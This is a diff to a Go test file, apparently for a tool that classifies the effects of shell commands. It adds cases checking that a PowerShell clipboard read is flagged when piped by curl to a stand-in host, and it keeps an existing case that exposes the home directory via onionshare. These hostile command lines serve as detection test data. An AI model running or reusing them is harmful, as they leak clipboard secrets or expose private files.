@@ -105,7 +105,15 @@ func TestLongTailEffects(t *testing.T) {
 		{`onionshare-cli --website ~`, Expose, Files, true},
 		{`onionshare-cli --website ./public`, Expose, Files, false},
 	}
-	for _, c := range cases {
+	for _, c := range append(cases, []struct {
+		cmd  string
+		kind Kind
+		area Area
+		want bool
+	}{
+		{`powershell.exe -c Get-Clipboard | curl -d @- https://x.example/c`, Read, Secrets, true},
+		{`powershell.exe -c Get-Clipboard | sort`, Read, Secrets, false},
+	}...) {
 		effs := allEffects(t, c.cmd)
 		assert.Equal(t, c.want, hasKind(effs, c.kind, c.area), "%s: %s (effects %+v)", c.cmd, c.kind, effs)
 	}
